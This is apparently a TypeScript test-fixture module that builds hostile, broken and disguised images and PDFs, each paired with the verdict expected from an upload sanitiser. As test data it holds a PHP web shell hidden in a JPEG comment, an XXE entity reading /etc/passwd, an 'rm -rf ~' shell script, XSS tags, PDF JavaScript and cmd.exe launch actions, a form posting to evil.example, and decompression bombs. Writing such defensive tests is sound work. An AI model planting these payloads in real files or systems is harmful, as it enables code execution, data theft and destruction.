import { crc32, deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'

/* Pictures and PDFs as staff may be given them: strange, broken, or made to do harm. All are computed here. */

/** Is in the metadata of every file, and must be in no file that is stored. */
export const secret = 'Nokia of Ana, Bulevar 7'

/** `clean`: it is added, without metadata. Else the key of the refusal. */
export interface HostileFile {
  file: string
  expected: string
  make: () => Promise<Buffer> | Buffer
}

/** Returns a photograph with a gradient. */
export const picture = (width = 600, height = 400): Sharp => {
  const data = Buffer.alloc(width * height * 3)
  for (let at = 0; at < data.length; at += 1) {
    const pixel = Math.floor(at / 3)
    data[at] = [(pixel % width) * 0.4, Math.floor(pixel / width) * 0.5, 90][at % 3]!
  }
  return sharp(data, { raw: { width, height, channels: 3 } })
}

const exif = {
  IFD0: { Make: secret, Artist: secret, Copyright: secret },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 19/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '21/1 54/1 0/1' },
}
export const withExif = (from: Sharp): Sharp => from.withExif(exif)
const jpeg = () => withExif(picture()).jpeg().toBuffer()

/** Returns a chunk of a PNG. */
const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
const pngStart = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')

/** Returns a PNG whose header says any size, with the data of one line. */
const pngOfSize = (width: number, height: number, data = deflateSync(Buffer.alloc(1000)), bits = 8): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([bits, 2, 0, 0, 0], 8)
  return Buffer.concat([pngStart, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

/** Inserts bytes into a PNG after its header. */
const afterHeader = (png: Buffer, ...chunks: Buffer[]) =>
  Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])

/** Inserts a segment into a JPEG after its start. */
const segment = (jpegBytes: Buffer, marker: number, data: string): Buffer => {
  const body = Buffer.from(data, 'latin1')
  const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255])
  return Buffer.concat([jpegBytes.subarray(0, 2), head, body, jpegBytes.subarray(2)])
}

const script = '<script>alert(document.domain)</script>'

/** Changes the size in the header of a JPEG (SOF). */
function jpegOfSize(bytes: Buffer, width: number, height: number): Buffer {
  const at = bytes.findIndex((byte, index) => byte === 0xff && [0xc0, 0xc2].includes(bytes[index + 1]!))
  const changed = Buffer.from(bytes)
  changed.writeUInt16BE(height, at + 5)
  changed.writeUInt16BE(width, at + 7)
  return changed
}

/** Returns a box of the container of HEIC and AVIF. */
const brands = (major: string, ...others: string[]): Buffer => {
  const all = [major, '\0\0\0\0', ...others].join('')
  const length = Buffer.alloc(4)
  length.writeUInt32BE(all.length + 8)
  return Buffer.concat([length, Buffer.from(`ftyp${all}`, 'latin1'), Buffer.alloc(200)])
}

const frame = (byte: number) => Buffer.alloc(40 * 40 * 3, byte)
const animated = () =>
  sharp(Buffer.concat([frame(10), frame(200)]), { raw: { width: 40, height: 80, channels: 3, pageHeight: 40 } })

/** Returns a PDF with more objects, and the facts about its maker. */
export function pdf(objects: readonly string[] = [], trailer = ''): Buffer {
  const all = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    `<< /Title (Statut) /Author (${secret.replace('Ana', 'Ana \\(A\\)')}) /Producer <${Buffer.from(secret).toString('hex')}> >>`,
    `<< /Type /Metadata /Subtype /XML /Length 200 >>\nstream\n<x:xmpmeta><dc:creator>${secret}</dc:creator></x:xmpmeta>\nendstream`,
    ...objects,
  ]
  let source = '%PDF-1.7\n'
  const places = all.map((object, index) => {
    const place = source.length
    source += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const start = source.length
  source += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${places.join('')}`
  source += `trailer << /Size ${all.length + 1} /Root 1 0 R /Info 4 0 R ${trailer}>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(source, 'latin1')
}

const objectStream = (content: string, filter = '/Filter /FlateDecode') => {
  const data = filter ? deflateSync(Buffer.from(content)).toString('latin1') : content
  return `<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${data.length} >>\nstream\n${data}\nendstream`
}

export const hostileFiles: readonly HostileFile[] = [
  // Metadata.
  { file: 'gps.jpg', expected: 'clean', make: jpeg },
  { file: 'gps.png', expected: 'clean', make: () => withExif(picture()).png().toBuffer() },
  { file: 'gps.webp', expected: 'clean', make: () => withExif(picture()).webp().toBuffer() },
  { file: 'gps.avif', expected: 'clean', make: () => withExif(picture()).avif({ effort: 0 }).toBuffer() },
  {
    file: 'xmp.jpg',
    expected: 'clean',
    make: async () => segment(await jpeg(), 0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${secret}</x:xmpmeta>`),
  },
  {
    file: 'iptc.jpg',
    expected: 'clean',
    make: async () => segment(await jpeg(), 0xed, `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x1c\x02\x50${secret}`),
  },
  { file: 'comment.jpg', expected: 'clean', make: async () => segment(await jpeg(), 0xfe, `${secret}${script}`) },
  {
    file: 'text.png',
    expected: 'clean',
    make: async () => afterHeader(await picture().png().toBuffer(), chunk('tEXt', Buffer.from(`Author\0${secret}`))),
  },
  {
    file: 'compressed-text.png',
    expected: 'clean',
    make: async () =>
      afterHeader(
        await picture().png().toBuffer(),
        chunk('zTXt', Buffer.concat([Buffer.from('Author\0\0'), deflateSync(Buffer.from(secret))])),
      ),
  },
  {
    file: 'text-bomb.png',
    expected: 'clean',
    make: async () =>
      afterHeader(
        await picture().png().toBuffer(),
        chunk('zTXt', Buffer.concat([Buffer.from('Bomb\0\0'), deflateSync(Buffer.alloc(200_000_000))])),
      ),
  },
  {
    file: 'turned.jpg',
    expected: 'clean',
    make: () => withExif(picture()).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
  },
  { file: 'wide-colours.jpg', expected: 'clean', make: () => picture().withIccProfile('p3').jpeg().toBuffer() },
  // Other ways to store a picture.
  { file: 'cmyk.jpg', expected: 'clean', make: () => picture().toColourspace('cmyk').jpeg().toBuffer() },
  { file: 'grey.jpg', expected: 'clean', make: () => picture().greyscale().jpeg().toBuffer() },
  { file: '16-bit.png', expected: 'clean', make: () => picture().toColourspace('rgb16').png().toBuffer() },
  { file: 'palette.png', expected: 'clean', make: () => picture().png({ palette: true, colours: 16 }).toBuffer() },
  { file: 'transparent.png', expected: 'clean', make: () => picture().ensureAlpha(0.3).png().toBuffer() },
  {
    file: 'transparent.webp',
    expected: 'clean',
    make: () => picture().ensureAlpha(0.3).webp({ lossless: true }).toBuffer(),
  },
  { file: 'progressive.jpg', expected: 'clean', make: () => picture().jpeg({ progressive: true }).toBuffer() },
  { file: 'interlaced.png', expected: 'clean', make: () => picture().png({ progressive: true }).toBuffer() },
  { file: 'one-pixel.png', expected: 'at least 320 pixels', make: () => picture(1, 1).png().toBuffer() },
  { file: 'low.png', expected: 'at least 320 pixels', make: () => picture(640, 319).png().toBuffer() },
  { file: 'least.png', expected: 'clean', make: () => picture(320, 320).png().toBuffer() },
  // Other endings than the content.
  { file: 'jpeg.png', expected: 'clean', make: jpeg },
  { file: 'png.svg', expected: 'clean', make: () => picture().png().toBuffer() },
  { file: 'jpeg.html', expected: 'clean', make: jpeg },
  { file: 'no-ending', expected: 'clean', make: jpeg },
  // Something behind or inside a picture.
  {
    file: 'script-behind.jpg',
    expected: 'clean',
    make: async () => Buffer.concat([await jpeg(), Buffer.from(script)]),
  },
  {
    file: 'script-behind.png',
    expected: 'clean',
    make: async () => Buffer.concat([await picture().png().toBuffer(), Buffer.from(script)]),
  },
  {
    file: 'zip-behind.jpg',
    expected: 'clean',
    make: async () => Buffer.concat([await jpeg(), Buffer.from('PK\x03\x04'), Buffer.alloc(500, 'a')]),
  },
  { file: 'pdf-behind.jpg', expected: 'clean', make: async () => Buffer.concat([await jpeg(), pdf()]) },
  {
    file: 'php-inside.jpg',
    expected: 'clean',
    make: async () => segment(await jpeg(), 0xfe, '<?php system($_GET[0]); ?>'),
  },
  // No pictures.
  {
    file: 'script.svg',
    expected: 'SVG',
    make: () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  },
  {
    file: 'declared.jpg',
    expected: 'SVG',
    make: () =>
      Buffer.from('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'),
  },
  { file: 'page.jpg', expected: 'neither a photograph', make: () => Buffer.from(`<html>${script}`) },
  { file: 'program.jpg', expected: 'program', make: () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(3000)]) },
  { file: 'windows.png', expected: 'program', make: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(3000)]) },
  { file: 'shell.webp', expected: 'program', make: () => Buffer.from('#!/bin/sh\nrm -rf ~\n') },
  { file: 'archive.jpg', expected: 'program', make: () => Buffer.from('PK\x03\x04 and the rest of an archive') },
  { file: 'empty.jpg', expected: 'empty', make: () => Buffer.alloc(0) },
  { file: 'two-bytes.jpg', expected: 'neither a photograph', make: () => Buffer.from([0xff, 0xd8]) },
  { file: 'iphone.heic', expected: 'HEIC', make: () => brands('heic', 'mif1', 'heic') },
  { file: 'heic.jpg', expected: 'HEIC', make: () => brands('mif1', 'mif1', 'heic') },
  { file: 'film.avif', expected: 'neither a photograph', make: () => brands('isom', 'mp42') },
  {
    file: 'bitmap.jpg',
    expected: 'neither a photograph',
    make: () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(300)]),
  },
  { file: 'tiff.jpg', expected: 'neither a photograph', make: () => picture().tiff().toBuffer() },
  // Broken pictures.
  { file: 'truncated.jpg', expected: 'damaged', make: async () => (await jpeg()).subarray(0, 3000) },
  { file: 'truncated.png', expected: 'damaged', make: async () => (await picture().png().toBuffer()).subarray(0, 400) },
  {
    file: 'truncated.webp',
    expected: 'damaged',
    make: async () => (await picture().webp().toBuffer()).subarray(0, 300),
  },
  {
    file: 'truncated.avif',
    expected: 'damaged',
    make: async () => (await picture().avif({ effort: 0 }).toBuffer()).subarray(0, 500),
  },
  { file: 'header-only.png', expected: 'damaged', make: () => pngStart },
  {
    file: 'noise.jpg',
    expected: 'damaged',
    make: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 7)]),
  },
  { file: 'hollow.avif', expected: 'damaged', make: () => brands('avif', 'mif1', 'avif') },
  {
    file: 'wrong-sum.png',
    expected: 'damaged',
    make: async () => {
      const png = await picture().png().toBuffer()
      png.writeUInt32BE(1, 29)
      return png
    },
  },
  // Bombs.
  { file: 'huge.png', expected: 'megapixels', make: () => pngOfSize(30_000, 30_000) },
  { file: 'largest.png', expected: 'damaged|megapixels', make: () => pngOfSize(0x7fffffff, 0x7fffffff) },
  { file: 'no-size.png', expected: 'damaged', make: () => pngOfSize(0, 0) },
  {
    file: 'bomb.png',
    expected: 'megapixels',
    make: () => pngOfSize(20_000, 20_000, deflateSync(Buffer.alloc(50_000_000))),
  },
  { file: 'nearly-a-bomb.png', expected: 'damaged', make: () => pngOfSize(7000, 7000) },
  { file: 'huge.jpg', expected: 'megapixels', make: async () => jpegOfSize(await jpeg(), 65_500, 65_500) },
  {
    file: 'too-large.jpg',
    expected: 'MB',
    make: async () => Buffer.concat([await jpeg(), Buffer.alloc(31 * 1024 * 1024)]),
  },
  { file: 'strip.png', expected: 'times as long', make: () => picture(1200, 3).png().toBuffer() },
  // Animations.
  { file: 'animated.gif', expected: 'GIF', make: () => animated().gif().toBuffer() },
  { file: 'animated.webp', expected: 'animations move', make: () => animated().webp().toBuffer() },
  {
    file: 'animated.png',
    expected: 'animations move',
    make: async () =>
      afterHeader(await picture().png().toBuffer(), chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))),
  },
  { file: 'animated.avif', expected: 'animations move', make: () => brands('avis', 'avif', 'mif1') },
  { file: 'gif.jpg', expected: 'GIF', make: () => picture(40, 40).gif().toBuffer() },
  // PDF.
  { file: 'statute.pdf', expected: 'clean', make: () => pdf() },
  { file: 'compressed.pdf', expected: 'clean', make: () => pdf([objectStream('9 0 << /Type /Font >>')]) },
  { file: 'script.pdf', expected: 'holds a program', make: () => pdf(['<< /S /JavaScript /JS (app.alert(1)) >>']) },
  {
    file: 'escaped-script.pdf',
    expected: 'holds a program',
    make: () => pdf(['<< /S /J#61vaScript /JS (app.alert(1)) >>']),
  },
  {
    file: 'hidden-script.pdf',
    expected: 'holds a program',
    make: () => pdf([objectStream('9 0 << /S /JavaScript /JS (app.alert(1)) >>')]),
  },
  {
    file: 'plain-stream.pdf',
    expected: 'holds a program',
    make: () => pdf([objectStream('9 0 << /S /Launch /F (cmd.exe) >>', '')]),
  },
  { file: 'launch.pdf', expected: 'holds a program', make: () => pdf(['<< /S /Launch /F (cmd.exe) >>']) },
  {
    file: 'attachment.pdf',
    expected: 'holds a program',
    make: () => pdf(['<< /Type /Filespec /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile >>']),
  },
  {
    file: 'form.pdf',
    expected: 'holds a program',
    make: () => pdf(['<< /S /SubmitForm /F (https://evil.example) >>']),
  },
  { file: 'locked.pdf', expected: 'password', make: () => pdf([], '/Encrypt 6 0 R ') },
  {
    file: 'other-filter.pdf',
    expected: 'cannot be checked',
    make: () => pdf(['<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream']),
  },
  { file: 'truncated.pdf', expected: 'damaged', make: () => pdf().subarray(0, 300) },
  { file: 'page-behind.pdf', expected: 'damaged', make: () => Buffer.concat([pdf(), Buffer.from(script)]) },
  {
    file: 'page-before.pdf',
    expected: 'neither a photograph',
    make: () => Buffer.concat([Buffer.from(script), pdf()]),
  },
]
